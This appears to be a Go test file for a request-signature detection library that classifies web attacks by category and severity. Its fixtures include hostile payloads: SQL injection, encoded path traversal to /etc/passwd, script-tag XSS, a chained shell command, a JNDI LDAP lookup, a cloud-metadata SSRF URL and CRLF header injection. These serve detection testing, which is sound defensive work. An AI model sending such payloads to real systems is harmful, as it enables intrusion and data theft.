package signatures

import (
	"net/http"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func textSubject(s string) Subject {
	return Subject{Text: Variants(s)}
}

func TestMatch_SQLTautologyIsHigh(t *testing.T) {
	c := Default()
	matches := Match(textSubject(`name=" ' OR 1=1 --"`), c.Except(CategoryMalware))
	require.NotEmpty(t, matches)

	var sqli bool
	for _, m := range matches {
		if m.Category == CategoryInjection && m.Severity >= SeverityHigh {
			sqli = true
		}
	}
	assert.True(t, sqli, "expected a high severity injection match")
	assert.GreaterOrEqual(t, AggregateSeverity(matches), SeverityHigh)
}

func TestMatch_EncodedPayloads(t *testing.T) {
	c := Default()
	tests := []struct {
		name    string
		payload string
		wantID  string
	}{
		{"double encoded traversal", "file=%252e%252e%252fetc%252fpasswd", "path-traversal"},
		{"url encoded script", "q=%3Cscript%3Ealert(1)%3C/script%3E", "xss-script-tag"},
		{"html entity script", "q=&lt;script&gt;", "xss-script-tag"},
		{"union select", "id=1 UNION ALL SELECT password FROM users", "sqli-union-select"},
		{"chained shell", "host=127.0.0.1; cat /etc/hosts", "cmd-chained-binary"},
		{"jndi", "${jndi:ldap://evil/a}", "jndi-lookup"},
		{"metadata", "url=http://169.254.169.254/latest/meta-data", "cloud-metadata-ssrf"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			matches := Match(textSubject(tt.payload), c.Except(CategoryMalware))
			ids := make([]string, 0, len(matches))
			for _, m := range matches {
				ids = append(ids, m.ID)
			}
			assert.Contains(t, ids, tt.wantID)
		})
	}
}

func TestMatch_BenignInputDoesNotMatch(t *testing.T) {
	c := Default()
	for _, s := range []string{
		"title=Community garden cleanup&id=42&page=2",
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
		"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
		"We need volunteers for Saturday and Sunday or next week",
	} {
		assert.Empty(t, Match(textSubject(s), c.Except(CategoryMalware)), s)
	}
}

func TestMatch_PredicateAndCounters(t *testing.T) {
	c := Default()
	sig, ok := c.Get("scanner-user-agent")
	require.True(t, ok)
	require.Equal(t, KindPredicate, sig.Matcher.Kind())
	assert.Zero(t, sig.DetectionCount())
	assert.True(t, sig.LastDetectedAt().IsZero())

	subject := Subject{Attrs: &Attrs{Method: http.MethodGet, Path: "/", UserAgent: "sqlmap/1.7", Header: http.Header{}}}
	matches := Match(subject, []*Signature{sig})
	require.Len(t, matches, 1)
	Match(subject, []*Signature{sig})

	assert.EqualValues(t, 2, sig.DetectionCount())
	assert.False(t, sig.LastDetectedAt().IsZero())

	// Without attributes a predicate never fires.
	assert.Empty(t, Match(Subject{Text: []string{"sqlmap"}}, []*Signature{sig}))
	assert.EqualValues(t, 2, sig.DetectionCount())
}

func TestMatch_HeaderCRLFInjection(t *testing.T) {
	sig, ok := Default().Get("header-crlf-injection")
	require.True(t, ok)
	fires := func(a Attrs) bool {
		if a.Header == nil {
			a.Header = http.Header{}
		}
		return len(Match(Subject{Attrs: &a}, []*Signature{sig})) == 1
	}

	assert.True(t, fires(Attrs{Path: "/redirect", RawQuery: "next=%2F%0d%0aSet-Cookie:%20sid=evil"}))
	assert.True(t, fires(Attrs{Path: "/redirect", RawQuery: "next=%250D%250ALocation:%20https://evil.example"}), "double encoded")
	assert.True(t, fires(Attrs{Path: "/lang/en\r\nX-Injected: 1"}), "decoded path")
	assert.True(t, fires(Attrs{Path: "/", Header: http.Header{"X-Return-To": {"/home%0aSet-Cookie: a=b"}}}))

	assert.False(t, fires(Attrs{Path: "/search", RawQuery: "q=first%0Asecond+line"}), "line break without a field")
	assert.False(t, fires(Attrs{Path: "/search", RawQuery: "q=100%25+off"}))
	assert.False(t, fires(Attrs{Path: "/search", RawQuery: "q=see%0Ahttps://civic.example"}))
	assert.False(t, fires(Attrs{Path: "/", Header: http.Header{"Referer": {"https://civic.example/a?b=c"}}}))
}

func TestMatch_BinaryOnlyInspectsRaw(t *testing.T) {
	sig := &Signature{ID: "bin", Category: CategoryMalware, Matcher: Binary([]byte{0xde, 0xad}), Severity: SeverityHigh}
	assert.Empty(t, Match(Subject{Text: []string{"\xde\xad"}}, []*Signature{sig}))
	assert.Len(t, Match(Subject{Raw: []byte{0x00, 0xde, 0xad, 0x01}}, []*Signature{sig}), 1)
}

func TestAggregateSeverity(t *testing.T) {
	low := &Signature{Severity: SeverityLow}
	med := &Signature{Severity: SeverityMedium}
	high := &Signature{Severity: SeverityHigh}
	crit := &Signature{Severity: SeverityCritical}

	assert.Equal(t, SeverityNone, AggregateSeverity(nil))
	assert.Equal(t, SeverityMedium, AggregateSeverity([]*Signature{low, med}))
	assert.Equal(t, SeverityHigh, AggregateSeverity([]*Signature{high, low, med}))
	assert.Equal(t, SeverityCritical, AggregateSeverity([]*Signature{low, crit, high}))
}

func TestCatalog_AddValidation(t *testing.T) {
	c, err := NewCatalog()
	require.NoError(t, err)

	assert.Error(t, c.Add(&Signature{ID: "", Category: CategoryScript, Matcher: MustPattern("x"), Severity: SeverityLow}))
	assert.Error(t, c.Add(&Signature{ID: "a", Category: "bogus", Matcher: MustPattern("x"), Severity: SeverityLow}))
	assert.Error(t, c.Add(&Signature{ID: "a", Category: CategoryScript, Severity: SeverityLow}))
	assert.Error(t, c.Add(&Signature{ID: "a", Category: CategoryScript, Matcher: MustPattern("x")}))

	require.NoError(t, c.Add(&Signature{ID: "a", Category: CategoryScript, Matcher: MustPattern("x"), Severity: SeverityLow}))
	assert.Error(t, c.Add(&Signature{ID: "a", Category: CategoryScript, Matcher: MustPattern("y"), Severity: SeverityLow}))
	assert.Equal(t, 1, c.Len())
	assert.Len(t, c.ByCategory(CategoryScript), 1)
	assert.Empty(t, c.ByCategory(CategoryMalware))
}

func TestCatalog_PutReplaces(t *testing.T) {
	c, err := NewCatalog(&Signature{ID: "a", Category: CategoryScript, Matcher: MustPattern("x"), Severity: SeverityLow})
	require.NoError(t, err)

	require.NoError(t, c.Put(&Signature{ID: "a", Category: CategoryTraversal, Matcher: MustPattern("y"), Severity: SeverityHigh}))
	assert.Equal(t, 1, c.Len())
	assert.Empty(t, c.ByCategory(CategoryScript))
	require.Len(t, c.ByCategory(CategoryTraversal), 1)
	got, ok := c.Get("a")
	require.True(t, ok)
	assert.Equal(t, SeverityHigh, got.Severity)

	at := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	got.record(at)
	got.record(at)
	require.NoError(t, c.Put(&Signature{ID: "a", Category: CategoryTraversal, Matcher: MustPattern("y2"), Severity: SeverityHigh}))
	got, _ = c.Get("a")
	assert.Equal(t, int64(2), got.DetectionCount(), "counters carry over to the new version")
	assert.True(t, at.Equal(got.LastDetectedAt()))
	assert.Equal(t, int64(2), c.Stats().TotalDetections)

	require.NoError(t, c.Put(&Signature{ID: "b", Category: CategoryScript, Matcher: MustPattern("z"), Severity: SeverityLow}))
	assert.Equal(t, 2, c.Len())
	assert.Error(t, c.Put(&Signature{ID: "c", Category: CategoryScript, Severity: SeverityLow}))
}

func TestPack_MergeIsRepeatable(t *testing.T) {
	p, err := ParsePack([]byte("signatures:\n  - id: custom-a\n    category: script\n    severity: low\n    pattern: x\n"))
	require.NoError(t, err)

	c := Default()
	before := c.Len()
	require.NoError(t, p.Merge(c))
	require.NoError(t, p.Merge(c))
	assert.Equal(t, before+1, c.Len())
	assert.Error(t, p.Apply(c))
}

func TestPack_CannotReplaceBuiltin(t *testing.T) {
	c := Default()
	builtin := c.All()[0]
	require.True(t, c.Builtin(builtin.ID))
	assert.False(t, c.Builtin("custom-a"))

	data := "signatures:\n  - id: custom-a\n    category: script\n    severity: low\n    pattern: x\n" +
		"  - id: " + builtin.ID + "\n    category: script\n    severity: low\n    pattern: x\n"
	p, err := ParsePack([]byte(data))
	require.NoError(t, err)

	before := c.Len()
	assert.ErrorIs(t, p.Check(c), ErrBuiltinSignature)
	assert.ErrorIs(t, p.Merge(c), ErrBuiltinSignature)
	assert.Equal(t, before, c.Len(), "a rejected pack merges nothing")
	_, ok := c.Get("custom-a")
	assert.False(t, ok)
	got, _ := c.Get(builtin.ID)
	assert.Same(t, builtin, got)

	assert.ErrorIs(t, c.Put(&Signature{ID: builtin.ID, Category: CategoryScript, Matcher: MustPattern("x"), Severity: SeverityLow}), ErrBuiltinSignature)
}

func TestDefault_CoversEveryCategory(t *testing.T) {
	c := Default()
	for _, cat := range Categories {
		assert.NotEmpty(t, c.ByCategory(cat), cat)
	}
	st := c.Stats()
	assert.Equal(t, c.Len(), st.Signatures)
}

func TestParsePack(t *testing.T) {
	data := []byte(`
signatures:
  - id: custom-wp-probe
    category: traversal
    severity: medium
    pattern: '(?i)/wp-admin/'
    description: WordPress admin probe
  - id: custom-magic
    category: malware
    severity: critical
    binary_hex: "ca fe ba be"
known_bad_hashes:
  - " SHA256:ABCDEF "
`)
	p, err := ParsePack(data)
	require.NoError(t, err)
	require.Len(t, p.Signatures, 2)
	assert.Equal(t, KindPattern, p.Signatures[0].Matcher.Kind())
	assert.Equal(t, KindBinary, p.Signatures[1].Matcher.Kind())
	assert.Equal(t, []string{"sha256:abcdef"}, p.KnownBadHashes)

	c := Default()
	before := c.Len()
	require.NoError(t, p.Apply(c))
	assert.Equal(t, before+2, c.Len())
}

func TestParsePack_Invalid(t *testing.T) {
	cases := map[string]string{
		"missing id":       "signatures:\n  - category: script\n    severity: low\n    pattern: x\n",
		"bad category":     "signatures:\n  - id: a\n    category: nope\n    severity: low\n    pattern: x\n",
		"bad severity":     "signatures:\n  - id: a\n    category: script\n    severity: extreme\n    pattern: x\n",
		"no matcher":       "signatures:\n  - id: a\n    category: script\n    severity: low\n",
		"both matchers":    "signatures:\n  - id: a\n    category: script\n    severity: low\n    pattern: x\n    binary_hex: aa\n",
		"bad regex":        "signatures:\n  - id: a\n    category: script\n    severity: low\n    pattern: '(('\n",
		"bad hex":          "signatures:\n  - id: a\n    category: malware\n    severity: low\n    binary_hex: zz\n",
		"malformed yaml":   "signatures: [",
		"missing severity": "signatures:\n  - id: a\n    category: script\n    pattern: x\n",
	}
	for name, doc := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := ParsePack([]byte(doc))
			assert.Error(t, err)
		})
	}
}

func TestSeverityText(t *testing.T) {
	b, err := SeverityHigh.MarshalText()
	require.NoError(t, err)
	assert.Equal(t, "high", string(b))

	var s Severity
	require.NoError(t, s.UnmarshalText([]byte("CRITICAL")))
	assert.Equal(t, SeverityCritical, s)
	assert.Error(t, s.UnmarshalText([]byte("urgent")))
}
